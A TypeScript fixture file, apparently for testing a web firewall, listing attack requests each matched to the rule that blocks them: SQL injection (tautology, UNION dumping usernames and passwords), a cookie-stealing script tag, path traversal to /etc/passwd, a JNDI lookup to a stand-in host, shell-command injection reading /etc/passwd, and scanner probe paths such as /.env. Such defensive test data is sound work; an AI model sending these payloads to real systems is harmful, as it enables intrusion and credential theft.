import type { PlannedRequest } from './planned-request.ts';
import { FIRED, type RefusalName } from './refusals.ts';
import { SAVE_ARTICLE } from './sites.ts';

type Attack = Pick<PlannedRequest, 'method' | 'target' | 'body'> & { refusal: RefusalName };

const get = (target: string, refusal: RefusalName): Attack => ({
  method: 'GET',
  target,
  body: null,
  refusal,
});

/** What strangers try on any shop, each refused by a managed rule. */
export const ATTACKS: readonly Attack[] = [
  get('/search?q=%27%20OR%201%3D1--', 'sqlTautology'),
  get('/products/iron-gate?id=7%20UNION%20SELECT%20username%2Cpassword%20FROM%20users', 'sqlUnion'),
  get('/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', 'scriptTag'),
  get('/download?file=../../../../etc/passwd', 'pathTraversal'),
  get('/cart?coupon=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D', 'jndiLookup'),
  get('/delivery?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd', 'shellCommand'),
];

/** What a scanner asks one after the other; refused for what it says of itself. */
export const PROBES: readonly string[] = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/server-status',
  '/backup.sql',
  '/actuator/env',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/test-cgi',
  '/config.json',
];

/** An author of the blog, who embeds a video; a rule takes it for cross-site scripting. */
export const FALSE_POSITIVE: Attack = {
  method: 'POST',
  target: SAVE_ARTICLE.path,
  body: {
    type: 'application/x-www-form-urlencoded',
    text: new URLSearchParams({
      title: 'Five moats you can visit',
      text: FIRED.embeddedScript.value,
    }).toString(),
  },
  refusal: 'embeddedScript',
};
